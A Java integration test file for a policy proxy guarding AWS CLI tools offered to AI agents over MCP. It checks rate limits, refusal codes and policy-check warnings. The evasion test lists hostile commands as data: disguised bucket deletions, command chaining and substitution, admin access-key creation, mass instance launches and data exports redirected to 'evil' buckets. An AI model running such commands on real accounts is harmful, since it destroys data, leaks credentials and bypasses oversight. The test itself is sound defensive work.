package io.github.mcppolicyproxy.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.api.io.TempDir;

/**
 * Operation rules for the tools that carry AWS CLI commands, through the packaged jar, in front of
 * the stand-in that records what it receives: {@code call_aws} of awslabs.aws-api-mcp-server and
 * {@code aws___call_aws} of its successor, the AWS MCP Server (the stand-in's {@code --successor}
 * mode), each with the same suite: the seed scenario at the operation level, evasion attempts, and
 * the operator commands.
 */
class CallAwsOperationsIT {
  private static final String POLICY = """
      {
        "version": "1",
        "default": "deny",
        "tools": { "TOOL": {} },
        "operations": {
          "*:List*": {},
          "*:Describe*": {},
          "omics:StartReadSetExportJob": {
            "limits": [ { "counter": "exports", "window": "minute", "max": 10, "scope": "session" } ],
            "require": [ { "path": "params.destination", "op": "exists" } ],
            "deny_if": [ { "path": "params.destination", "op": "regex",
                           "value": "(?!s3://(genomics-exports|lab-share)/).*" } ]
          },
          "*:Delete*": { "action": "deny", "reason": "no deletes" },
          "iam:*": { "action": "deny", "reason": "no IAM" }
        }
      }
      """;

  @TempDir
  Path dir;

  /** The tools that carry AWS CLI commands, one per upstream. */
  static List<String> cliTools() {
    return List.of("call_aws", "aws___call_aws");
  }

  private static String policy(String tool) {
    return POLICY.replace("TOOL", tool);
  }

  /** The stand-in's options that make it the upstream offering {@code tool}. */
  private static List<String> standIn(String tool, String... more) {
    List<String> options = new ArrayList<>();
    if (tool.startsWith("aws___")) {
      options.add("--successor");
    }
    options.addAll(List.of(more));
    return ProxyProcess.standIn(options.toArray(String[]::new));
  }

  private ProxyProcess start(String tool, Path record) throws Exception {
    return start(tool, record, List.of());
  }

  /** The proxy in front of the recording stand-in, its JVM started with {@code jvmOptions}. */
  private ProxyProcess start(String tool, Path record, List<String> jvmOptions) throws Exception {
    Path policy = ProxyProcess.write(dir, "policy.json", policy(tool));
    List<String> args = new ArrayList<>(List.of("--policy", policy.toString(), "--violation-log",
        dir.resolve("violations.jsonl").toString(), "--"));
    args.addAll(standIn(tool, "--record", record.toString()));
    return ProxyProcess.start(args, Map.of("AWS_REGION", "us-east-1"), jvmOptions);
  }

  private static String export(int i, String destination) {
    return "aws omics start-read-set-export-job --sequence-store-id 1234567890 --destination "
        + destination + " --role-arn arn:aws:iam::123456789012:role/Export --sources readSetId=rs-"
        + i;
  }

  private static JsonNode callAws(ProxyProcess p, String tool, int id, String commandJson)
      throws Exception {
    return p.callTool(id, tool, "{\"cli_command\":" + commandJson + "}");
  }

  private static String code(JsonNode answer) {
    return answer.path("result").path("_meta").path("io.github.mcp-policy-proxy/refusal")
        .path("code").asText("");
  }

  @ParameterizedTest
  @MethodSource("cliTools")
  void exportsThroughCallAwsAreLimitedToTenAMinutePerSession(String tool) throws Exception {
    Path record = dir.resolve("received.jsonl");
    try (ProxyProcess p = start(tool, record)) {
      p.initialize();
      for (int i = 1; i <= 10; i++) {
        JsonNode ok = callAws(p, tool, i, ProxyProcess.JSON.writeValueAsString(
            export(i, "s3://genomics-exports/run/")));
        assertThat(ok.path("result").path("isError").asBoolean()).as("export %d", i).isFalse();
        assertThat(ok.toString()).contains("StartReadSetExportJob");
      }
      JsonNode eleventh = callAws(p, tool, 11, ProxyProcess.JSON.writeValueAsString(
          export(11, "s3://genomics-exports/run/")));
      assertThat(code(eleventh)).isEqualTo("rate_limited");
      assertThat(eleventh.path("result").path("content").path(0).path("text").asText())
          .contains("omics:StartReadSetExportJob").contains("10 calls per minute")
          .containsPattern("retry in \\d+ s");
      JsonNode list = callAws(p, tool, 12, "\"aws s3api list-buckets\"");
      assertThat(list.path("result").path("isError").asBoolean()).isFalse();
    }
    String received = Files.readString(record, StandardCharsets.UTF_8);
    assertThat(received).contains("readSetId=rs-10").doesNotContain("readSetId=rs-11");
    List<String> log = Files.readAllLines(dir.resolve("violations.jsonl")).stream()
        .filter(l -> !l.contains("\"event\":")).toList(); // refusals, not the session's summary
    assertThat(log).hasSize(1);
    JsonNode line = ProxyProcess.JSON.readTree(log.get(0));
    assertThat(line.path("operations").get(0).asText()).isEqualTo("omics:StartReadSetExportJob");
    assertThat(line.path("code").asText()).isEqualTo("rate_limited");
  }

  /**
   * A refusal's text does not depend on the machine's locale: under {@code ar_EG}, whose JDK (CLDR)
   * data formats numbers with Arabic-Indic digits, the proxy still writes ASCII digits, since it
   * runs with the JDK's root locale data; a {@code -Djava.locale.providers} the user passes is kept
   * (with CLDR's data the same text carries that locale's digits).
   */
  @Test
  void refusalTextsAreTheSameUnderAnyLocale() throws Exception {
    String escape = ProxyProcess.JSON.writeValueAsString("aws s3 ls s3://b\u001bx");
    List<String> arabic = List.of("-Duser.language=ar", "-Duser.country=EG");
    List<String> arabicCldr = List.of("-Duser.language=ar", "-Duser.country=EG",
        "-Djava.locale.providers=CLDR");
    String[] texts = new String[2];
    int i = 0;
    for (List<String> jvm : List.of(arabic, arabicCldr)) {
      try (ProxyProcess p = start("call_aws", dir.resolve("received-" + i + ".jsonl"), jvm)) {
        p.initialize();
        JsonNode r = callAws(p, "call_aws", 1, escape);
        assertThat(code(r)).isEqualTo("unparseable_command");
        texts[i++] = r.path("result").path("content").path(0).path("text").asText();
      }
    }
    assertThat(texts[0]).contains("control character U+001B at character 17")
        .doesNotContainPattern("[\u0660-\u0669]");
    assertThat(texts[1]).contains("control character U+001B at character \u0661\u0667");
  }

  @ParameterizedTest
  @MethodSource("cliTools")
  void evasionAttemptsAreRefusedAndNeverReachTheUpstream(String tool) throws Exception {
    Path record = dir.resolve("received.jsonl");
    Map<String, String> attempts = new java.util.LinkedHashMap<>();
    // command (as JSON) -> expected code
    attempts.put("\"aws s3api 'delete-bucket' --bucket prod\"", "denied");
    attempts.put("\"aws s3api del\\\"ete-bucket\\\" --bucket prod\"", "denied");
    attempts.put("\"aws --region us-west-2 s3api --debug delete-bucket --bucket prod\"", "denied");
    attempts.put("\"aws S3API DELETE-BUCKET --bucket prod\"", "unparseable_command");
    attempts.put("\"aws iam create-access-key --user-name admin\"", "denied");
    attempts.put("\"aws s3 rb s3://prod --force\"", "denied");
    attempts.put("\"aws s3 ls; aws s3 rb s3://prod\"", "unparseable_command");
    attempts.put("\"aws s3 ls $(aws s3 rb s3://prod)\"", "unparseable_command");
    attempts.put("[\"aws s3 ls\", \"aws s3api delete-object --bucket b --key k\"]", "denied");
    attempts.put("\"aws ec2 run-instances --image-id ami-1 --count 100\"", "denied");
    attempts.put(ProxyProcess.JSON.writeValueAsString("aws omics start-read-set-export-job "
        + "--cli-input-json '{\"sequenceStoreId\":\"1\",\"destination\":\"s3://evil/x\","
        + "\"roleArn\":\"arn:aws:iam::1:role/r\",\"sources\":[{\"readSetId\":\"rs-x\"}]}'"),
        "invalid_arguments"); // the server never sends what --cli-input-json holds: no destination
    attempts.put(ProxyProcess.JSON.writeValueAsString("aws omics start-read-set-export-job --sequence-store-id 1"
        + " --role-arn r --sources readSetId=rs-x --destination s3://genomics-exports/a/"
        + " '--dest=s3://evil/x y/'"), "denied");
    attempts.put(ProxyProcess.JSON.writeValueAsString(export(99, "s3://evil-bucket/x")), "denied");
    attempts.put(ProxyProcess.JSON.writeValueAsString(export(98, "s3://genomics-exports.evil/x")),
        "denied");
    attempts.put("42", "unparseable_command");
    try (ProxyProcess p = start(tool, record)) {
      p.initialize();
      int id = 100;
      for (Map.Entry<String, String> a : attempts.entrySet()) {
        JsonNode r = callAws(p, tool, id++, a.getKey());
        assertThat(r.path("result").path("isError").asBoolean()).as(a.getKey()).isTrue();
        assertThat(code(r)).as(a.getKey()).isEqualTo(a.getValue());
      }
      JsonNode stillWorks = callAws(p, tool, 1, "\"aws s3 ls\"");
      assertThat(stillWorks.path("result").path("isError").asBoolean()).isFalse();
    }
    String received = Files.readString(record, StandardCharsets.UTF_8);
    assertThat(received).doesNotContain("delete").doesNotContain("DELETE").doesNotContain("rb s3")
        .doesNotContain("create-access-key").doesNotContain("run-instances")
        .doesNotContain("evil").contains("aws s3 ls");
  }

  @Test
  void checkWarnsAboutAToolRuleThatTheAwsApiServerCannotMatch() throws Exception {
    Path seed = ProxyProcess.write(dir, "seed.json", "{\"version\":\"1\",\"default\":\"deny\","
        + "\"tools\":{\"StartAHOReadSetExportJob\":{\"limits\":[{\"counter\":\"c\",\"window\":"
        + "\"minute\",\"max\":10,\"scope\":\"grant\"}]}}}");
    List<String> args = new ArrayList<>(List.of("check", seed.toString(), "--"));
    args.addAll(ProxyProcess.standIn("--no-healthomics-tool"));
    try (ProxyProcess p = ProxyProcess.start(args)) {
      assertThat(p.waitFor(Duration.ofSeconds(30))).isZero();
      String out = stdout(p);
      assertThat(out).contains("warning:").contains("/tools/StartAHOReadSetExportJob")
          .contains("omics:StartReadSetExportJob");
    }
    Path bad = ProxyProcess.write(dir, "bad.json", "{\"version\":\"1\",\"default\":\"deny\","
        + "\"tools\":{\"x\":{\"limits\":[{\"window\":\"fortnight\",\"max\":0}]}}}");
    try (ProxyProcess p = ProxyProcess.start(List.of("check", bad.toString()))) {
      assertThat(p.waitFor(Duration.ofSeconds(30))).isEqualTo(2);
      assertThat(stdout(p)).contains("/tools/x/limits/0/window").contains("/tools/x/limits/0/max")
          .contains("line 1, column");
    }
  }

  @Test
  void checkWarnsAboutAnAllowedToolThatTakesACliCommandUnderAnUnrecognisedName()
      throws Exception {
    // an upstream that offers AWS CLI commands under a name the proxy does not recognise
    Path server = ProxyProcess.write(dir, "server.py", String.join("\n",
        "import json, sys",
        "for line in sys.stdin:",
        "    m = json.loads(line)",
        "    if 'id' not in m: continue",
        "    if m['method'] == 'initialize':",
        "        r = {'protocolVersion': m['params']['protocolVersion'], 'capabilities': {'tools': {}},",
        "             'serverInfo': {'name': 'renamed', 'version': '1'}}",
        "    else:",
        "        r = {'tools': [{'name': 'run_aws', 'description': 'runs an AWS CLI command',",
        "             'inputSchema': {'type': 'object', 'properties': {'cli_command': {'type': 'string'}}}}]}",
        "    print(json.dumps({'jsonrpc': '2.0', 'id': m['id'], 'result': r}), flush=True)", ""));
    Path allowed = ProxyProcess.write(dir, "allowed.json", "{\"version\":\"1\",\"default\":"
        + "\"deny\",\"tools\":{\"run_aws\":{},\"call_aws\":{}},\"operations\":{\"*:List*\":{}}}");
    try (ProxyProcess p = ProxyProcess.start(List.of("check", allowed.toString(), "--", "python3",
        server.toString()))) {
      assertThat(p.waitFor(Duration.ofSeconds(30))).isZero();
      assertThat(stdout(p)).contains("upstream offers 1 tools: run_aws")
          .contains("run_aws takes a cli_command (by its input schema) and is allowed");
    }
    Path named = ProxyProcess.write(dir, "named.json", "{\"version\":\"1\",\"default\":"
        + "\"deny\",\"tools\":{\"run_aws\":{}},\"aws_cli_tools\":[\"run_aws\"],"
        + "\"operations\":{\"*:List*\":{}}}");
    try (ProxyProcess p = ProxyProcess.start(List.of("check", named.toString(), "--", "python3",
        server.toString()))) {
      assertThat(p.waitFor(Duration.ofSeconds(30))).isZero();
      assertThat(stdout(p)).contains("upstream offers 1 tools: run_aws")
          .doesNotContain("takes a cli_command");
    }
  }

  @Test
  void checkKnowsTheSuccessorsToolsAndWarnsWhenAScriptToolIsAllowedNextToOperationRules()
      throws Exception {
    Path loose = ProxyProcess.write(dir, "loose.json", "{\"version\":\"1\",\"default\":\"deny\","
        + "\"tools\":{\"aws___*\":{}},\"operations\":{\"*:List*\":{}}}");
    List<String> args = new ArrayList<>(List.of("check", loose.toString(), "--"));
    args.addAll(standIn("aws___call_aws"));
    try (ProxyProcess p = ProxyProcess.start(args)) {
      assertThat(p.waitFor(Duration.ofSeconds(30))).isZero();
      String out = stdout(p);
      assertThat(out).contains("aws___call_aws").contains("aws___run_script")
          .contains("warning:").contains("aws___run_script is allowed, but it runs a script")
          .doesNotContain("no rule allows a tool that carries AWS CLI commands");
    }
    Path onlyOps = ProxyProcess.write(dir, "only-ops.json", "{\"version\":\"1\",\"default\":"
        + "\"deny\",\"operations\":{\"*:List*\":{}}}");
    try (ProxyProcess p = ProxyProcess.start(List.of("check", onlyOps.toString()))) {
      assertThat(p.waitFor(Duration.ofSeconds(30))).isZero();
      assertThat(stdout(p)).contains("no rule allows a tool that carries AWS CLI commands")
          .contains("call_aws, aws___call_aws");
    }
    List<String> shipped = new ArrayList<>(List.of("check",
        Path.of("config/aws-mcp-server.policy.json").toAbsolutePath().toString(), "--"));
    shipped.addAll(standIn("aws___call_aws"));
    try (ProxyProcess p = ProxyProcess.start(shipped)) {
      assertThat(p.waitFor(Duration.ofSeconds(30))).isZero();
      String out = stdout(p);
      assertThat(out).contains("0 warnings").contains("always refused")
          .contains("aws___run_script");
    }
  }

  @ParameterizedTest
  @MethodSource("cliTools")
  void explainNamesTheRulesTheOperationsAndTheRefusal(String tool) throws Exception {
    Path policy = ProxyProcess.write(dir, "policy.json", policy(tool));
    try (ProxyProcess p = ProxyProcess.start(List.of("explain", policy.toString(), "--tool",
        tool, "--args", "{\"cli_command\":\"aws s3api delete-bucket --bucket prod\"}"))) {
      assertThat(p.waitFor(Duration.ofSeconds(30))).isEqualTo(1);
      assertThat(stdout(p)).contains("s3:DeleteBucket").contains("/operations/*:Delete*")
          .contains("REFUSE denied").contains("Policy violation:");
    }
    try (ProxyProcess p = ProxyProcess.start(List.of("explain", policy.toString(), "--tool",
        tool, "--args", "{\"cli_command\":\"aws ec2 describe-instances\"}"))) {
      assertThat(p.waitFor(Duration.ofSeconds(30))).isZero();
      assertThat(stdout(p)).contains("ec2:DescribeInstances").contains("ALLOW");
    }
  }

  private static String stdout(ProxyProcess p) {
    return String.join("\n", p.stdoutLines().stream()
        .map(b -> new String(b, StandardCharsets.UTF_8)).toList());
  }
}
